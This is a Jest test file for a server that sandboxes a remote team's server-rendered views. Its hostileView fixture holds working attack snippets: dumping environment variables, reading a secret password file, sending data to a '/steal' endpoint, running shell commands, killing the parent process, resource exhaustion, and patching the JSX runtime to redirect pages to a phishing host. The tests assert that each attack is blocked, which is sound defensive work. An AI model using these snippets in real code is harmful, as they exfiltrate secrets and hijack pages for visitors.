/** @jest-environment node */
import * as http from 'node:http';
import { createServer, type Server } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { shellViewFile } from '@harmoni/shared/buildOutput';
import type { FastifyInstance } from 'fastify';
import { buildAppServer } from '../appServer';
import { createFakeDist, fakeFiles, type FakeDist } from '../testing/fakeDist';
import { startFakeRemote, type FakeRemote } from '../testing/fakeRemote';
import { listen, request, untilHealthy } from '../testing/http';
import { fakeShellView } from '../testing/fakeShellView';
import { renderWorkersOf } from '../testing/processes';
import { registryOf } from '../testing/registry';
import { aboutFiles, contactFiles, galleryFiles, lessonFiles } from '../testing/siteFixtures';

/**
 * A remote whose server view attacks the shell's server, one attack per page (?attack=…). Its
 * region draws whatever the attack returns, so each test reads the outcome in the page.
 */
const hostileView = (secretFile: string, outsidePort: number) => `
exports.loadRemoteViews = function (publicPath) {
  const attacks = {
    env: () => 'env:' + JSON.stringify(process.env),
    secrets: () => {
      try { return 'file:' + process.getBuiltinModule('node:fs').readFileSync(${JSON.stringify(secretFile)}, 'utf8'); }
      catch (error) { return 'fs:' + error.code; }
    },
    http: () => {
      const http = process.getBuiltinModule('node:http');
      http.ServerResponse.prototype.end = function () { return this; };
      http.ServerResponse.prototype.setHeader = function () { return this; };
      return 'patched';
    },
    connect: () => new Promise((resolve) => {
      const socket = process.getBuiltinModule('node:net').connect(${outsidePort}, '127.0.0.1');
      socket.on('connect', () => resolve('connected'));
      socket.on('error', (error) => resolve('net:' + error.code));
    }),
    fetch: () => fetch('http://127.0.0.1:${outsidePort}/steal').then(
      () => 'fetched',
      (error) => 'fetch:' + ((error.cause && error.cause.code) || error.message),
    ),
    spawn: () => {
      try { process.getBuiltinModule('node:child_process').execSync('id'); return 'spawned'; }
      catch (error) { return 'spawn:' + error.code; }
    },
    killParent: () => { const parent = process.ppid; process.kill(parent, 'SIGKILL'); return 'sent to ' + parent; },
    loop: () => { for (;;) {} },
    alloc: () => { const hoard = []; for (;;) hoard.push(new Array(1e6).fill(hoard.length)); },
    // what it shares with other views in the same process: the JSX runtime, IPC, built-ins
    patch: () => {
      const jsx = require('react/jsx-runtime');
      const original = jsx.jsx;
      jsx.jsx = jsx.jsxs = (type, props, key) =>
        original(type, Object.assign({}, props, { children: 'Call 0000 0000 for a free lesson' }), key);
      // answers every later task itself, first, with a page of its own making
      const forged = { html: '<meta http-equiv="refresh" content="0;url=//phish.example">', facts: { jsonLd: {}, status: 'found' }, views: [] };
      const send = process.send;
      process.send = (message, ...rest) => send.call(process, Object.assign({}, message, { result: forged }), ...rest);
      process.prependListener('message', (message) => {
        if (message && message.type === 'render') send.call(process, { type: 'done', id: message.id, result: forged });
      });
      Array.prototype.join = () => 'joined';
      JSON.stringify = () => '{"type":"ready"}';
      return 'patched';
    },
  };
  return {
    './LessonPage': {
      draw: async (url, readContent) => {
        const name = new URL(url, 'http://x').searchParams.get('attack');
        const reads = {
          read: 'http://127.0.0.1:${outsidePort}/content.txt',
          readRedirected: publicPath + 'assets/moved.txt',
          readOwnCode: publicPath + 'ssr/remoteViews.bad.cjs',
          readContent: publicPath + 'assets/docs/lessons/piano.txt',
        };
        const outcome = reads[name]
          ? name + ':' + (await readContent(reads[name])).status
          : await attacks[name]();
        return { html: String(outcome).replace(/&/g, '&amp;').replace(/</g, '&lt;'), facts: { status: 'found' } };
      },
    },
  };
};`;

/** Another team's view, drawn with the JSX runtime the shell lends. */
const aboutView = `
exports.loadRemoteViews = function () {
  const { jsx } = require('react/jsx-runtime');
  return { './AboutPage': { default: function AboutPage() { return jsx('p', { children: 'Founded in 2018' }); } } };
};`;

/** The shell's view: its page around a slot for the page's region, which the region's worker fills. */
const shellView = fakeShellView();

const DEADLINE_MS = 800;
// each shell starts its render worker processes, which load the view and jsdom first
jest.setTimeout(30_000);

let remotes: FakeRemote[];
let outside: Server;
let outsideConnections = 0;
let secretDir: string;
let viewCode: string;
let shell: HostileShell;

interface HostileShell {
  base: string;
  warnings: string[];
  close(): Promise<void>;
}

/** The shell's server with the hostile view live in its registry, and a breaker of its own. */
async function startShell(): Promise<HostileShell> {
  const [lessons, gallery, about, contact] = remotes.map((remote) => remote.base);
  const dist: FakeDist = createFakeDist({
    ...fakeFiles,
    'index.html':
      '<!doctype html><html><head><title>t</title></head><body><div id="root"></div></body></html>',
    [shellViewFile]: shellView,
    'registry.json': JSON.stringify(
      registryOf({
        lessons: { base: lessons ?? '', file: 'ssr/remoteViews.bad.cjs', code: viewCode },
        about: { base: about ?? '', file: 'ssr/remoteViews.good.cjs', code: aboutView },
      }),
    ),
  });
  const app: FastifyInstance = buildAppServer({
    workspace: 'shell',
    root: dist.root,
    env: {
      ...process.env,
      LESSONS_URL: lessons,
      GALLERY_URL: gallery,
      ABOUT_URL: about,
      CONTACT_URL: contact,
      REGISTRY_FILE: join(dist.root, 'registry.json'),
      RENDER_DEADLINE_MS: String(DEADLINE_MS),
      RENDER_WORKER_HEAP_MB: '64',
    },
  });
  const warnings: string[] = [];
  const report = (message: string) => warnings.push(message);
  app.log.warn = report as typeof app.log.warn;
  app.log.error = report as typeof app.log.error;
  const base = await listen(app);
  await untilHealthy(base);
  return {
    base,
    warnings,
    close: async () => {
      await app.close();
      dist.remove();
    },
  };
}

beforeAll(async () => {
  secretDir = mkdtempSync(join(tmpdir(), 'harmoni-secret-'));
  const secretFile = join(secretDir, 'secret.txt');
  writeFileSync(secretFile, 'the-school-database-password');
  outside = createServer((socket) => {
    outsideConnections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const outsidePort = (outside.address() as { port: number }).port;
  remotes = await Promise.all(
    [lessonFiles, galleryFiles, aboutFiles, contactFiles].map((files) => startFakeRemote(files)),
  );
  viewCode = hostileView(secretFile, outsidePort);
  remotes[0]?.files.set('ssr/remoteViews.bad.cjs', viewCode);
  remotes[2]?.files.set('ssr/remoteViews.good.cjs', aboutView);
  remotes[0]?.redirects.set('assets/moved.txt', `http://127.0.0.1:${outsidePort}/content.txt`);
  process.env.HARMONI_SHELL_SECRET = 'shell-secret-value';
  shell = await startShell();
});

afterAll(async () => {
  delete process.env.HARMONI_SHELL_SECRET;
  await shell.close();
  await Promise.all(remotes.map((remote) => remote.close()));
  await new Promise((resolve) => outside.close(resolve));
  rmSync(secretDir, { recursive: true, force: true });
});

async function attack(name: string, headers: Record<string, string> = {}, on = shell) {
  const started = Date.now();
  const res = await request(`${on.base}/lesson/piano?attack=${name}`, {
    headers: { accept: 'text/html', ...headers },
  });
  const main = /<main>(.*?)<\/main>/s.exec(res.body)?.[1];
  return { status: res.statusCode, main, ms: Date.now() - started, body: res.body };
}

describe('a hostile remote server view', () => {
  it('runs: its code is drawn into the page (the harness itself works)', async () => {
    const first = await attack('spawn');
    expect(first.main).toBe('spawn:ERR_ACCESS_DENIED');
  });

  it("cannot read the shell's environment", async () => {
    const { main } = await attack('env');
    // bubblewrap sets PWD to the sandbox's own folder, '/': nothing of the server's
    expect(main).toMatch(/^env:\{("PWD":"\/")?\}$/);
    expect(main).not.toContain('shell-secret-value');
  });

  it("cannot read the server's files", async () => {
    const { main, body } = await attack('secrets');
    expect(main).toBe('fs:ERR_ACCESS_DENIED');
    expect(body).not.toContain('the-school-database-password');
  });

  it("cannot patch the shell server's http, nor change its answers", async () => {
    const end = http.ServerResponse.prototype.end;
    expect((await attack('http')).main).toBe('patched');
    expect(http.ServerResponse.prototype.end).toBe(end);
    const next = await request(`${shell.base}/about`, { headers: { accept: 'text/html' } });
    expect(next.statusCode).toBe(200);
    expect(next.headers['content-security-policy']).toBeDefined();
    expect(next.body).toContain('<main><p>Founded in 2018</p></main>');
  });

  it("never sees a visitor's cookies or headers", async () => {
    const { body } = await attack('env', {
      cookie: 'enquiry-csrf-secret=cookie-value-of-a-visitor',
      authorization: 'Bearer header-value-of-a-visitor',
    });
    expect(body).not.toContain('cookie-value-of-a-visitor');
    expect(body).not.toContain('header-value-of-a-visitor');
  });

  it.each(['connect', 'fetch'])(
    'cannot open a connection outside the registry (%s)',
    async (how) => {
      const { main } = await attack(how);
      expect(main).toMatch(/^(net|fetch):E[A-Z]+$/);
      expect(outsideConnections).toBe(0);
    },
  );

  it("cannot change another team's page or the shell's by patching what it shares in its process", async () => {
    const own = await startShell();
    try {
      const page = async (path: string) =>
        (await request(`${own.base}${path}`, { headers: { accept: 'text/html' } })).body;
      const before = { about: await page('/about'), home: await page('/') };
      expect(before.about).toContain('<main><p>Founded in 2018</p></main>');
      // the JSX runtime, IPC and built-ins of its own worker: its next answers are forged
      expect((await attack('patch', {}, own)).main).toBe('patched');
      const forged = await attack('spawn', {}, own);
      expect(forged.body).not.toContain('phish.example');
      expect(forged.main).toBe('loading');
      for (let round = 0; round < 3; round += 1) {
        expect(await page('/about')).toBe(before.about);
        expect(await page('/')).toBe(before.home);
      }
      expect(own.warnings.join('\n')).toMatch(
        /Refused what the server view of lessons \(release local\) drew .*<meta> element/,
      );
    } finally {
      await own.close();
    }
  });

  it('cannot make the server read a file outside the registry', async () => {
    expect((await attack('read')).main).toBe('read:unreadable');
    expect(outsideConnections).toBe(0);
  });

  it("has the server read its release's content only: not its other files, not through a redirect", async () => {
    expect((await attack('readContent')).main).toBe('readContent:read');
    expect((await attack('readOwnCode')).main).toBe('readOwnCode:unreadable');
    expect((await attack('readRedirected')).main).toBe('readRedirected:unreadable');
    expect(outsideConnections).toBe(0);
    expect(shell.warnings.join('\n')).toMatch(
      /Refused a render's read of .*ssr\/remoteViews\.bad\.cjs/,
    );
    expect(shell.warnings.join('\n')).toMatch(
      /a redirect to http:\/\/127\.0\.0\.1:\d+\/content\.txt, which the server does not follow/,
    );
  });

  it("cannot kill the shell's server: its parent is the sandbox's own PID 1", async () => {
    expect((await attack('killParent')).main).toBe('sent to 1');
    const next = await request(`${shell.base}/about`, { headers: { accept: 'text/html' } });
    expect(next.statusCode).toBe(200);
    expect((await attack('spawn')).main).toBe('spawn:ERR_ACCESS_DENIED');
  });

  it('a render worker killed from outside never takes the server: pages keep coming, the pool replaces it', async () => {
    const workers = renderWorkersOf(process.pid);
    expect(workers.length).toBeGreaterThan(0);
    for (const pid of workers) process.kill(pid, 'SIGKILL');
    const during = await request(`${shell.base}/about`, { headers: { accept: 'text/html' } });
    expect(during.statusCode).toBe(200);
    // a fresh worker draws the remote's part again
    const deadline = Date.now() + 20_000;
    let main: string | undefined;
    while (Date.now() < deadline && main !== 'spawn:ERR_ACCESS_DENIED') {
      main = (await attack('spawn')).main;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(main).toBe('spawn:ERR_ACCESS_DENIED');
    expect(renderWorkersOf(process.pid).some((pid) => workers.includes(pid))).toBe(false);
  });

  it.each(['loop', 'alloc'])(
    'is stopped when it %ss: the page comes by its deadline, other visitors are served, then it is benched',
    async (name) => {
      const own = await startShell();
      try {
        const [hostile, other] = await Promise.all([
          attack(name, {}, own),
          (async () => {
            const started = Date.now();
            const res = await request(`${own.base}/about`, { headers: { accept: 'text/html' } });
            return { ms: Date.now() - started, body: res.body };
          })(),
        ]);
        // drawn again without the remote's part, which the browser draws: not confirmed yet
        expect(hostile.status).toBe(503);
        expect(hostile.main).toBe('loading');
        expect(hostile.ms).toBeLessThan(DEADLINE_MS + 1_500);
        expect(other.body).toContain('<main><p>Founded in 2018</p></main>');
        expect(other.ms).toBeLessThan(DEADLINE_MS + 1_000);
        // a hoard dies of its heap limit, or is stopped at the deadline if the machine is slow
        expect(own.warnings.join('\n')).toMatch(
          name === 'loop'
            ? /lessons \(release local\) did not finish .* within 800 ms/
            : /lessons \(release local\) (crashed drawing|did not finish .* within 800 ms)/,
        );
        // the breaker: the next page does not wait for it again
        const again = await attack(name, {}, own);
        expect(again.main).toBe('shell only');
        expect(again.ms).toBeLessThan(DEADLINE_MS);
      } finally {
        await own.close();
      }
    },
  );
});
